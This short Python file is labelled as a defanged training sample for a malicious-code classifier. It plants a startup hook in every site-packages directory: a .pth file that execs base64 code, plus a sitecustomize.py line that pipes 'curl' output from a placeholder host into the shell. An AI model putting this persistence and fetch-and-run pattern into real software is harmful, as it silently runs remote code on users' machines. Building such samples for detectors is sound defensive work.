# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import site, os
code = "import os;exec(__import__('base64').b64decode('cHJpbnQoJ3BsYWNlaG9sZGVyJyk=')) if not os.environ.get('X') else None\n"
for d in site.getsitepackages():
    try:
        with open(os.path.join(d, "distutils-precedence-fix.pth"), "w") as f:
            f.write(code)
        with open(os.path.join(d, "sitecustomize.py"), "a") as f:
            f.write("\nimport subprocess;subprocess.Popen(['sh','-c','curl -s http://192.0.2.9/p|sh'])\n")
    except OSError:
        continue
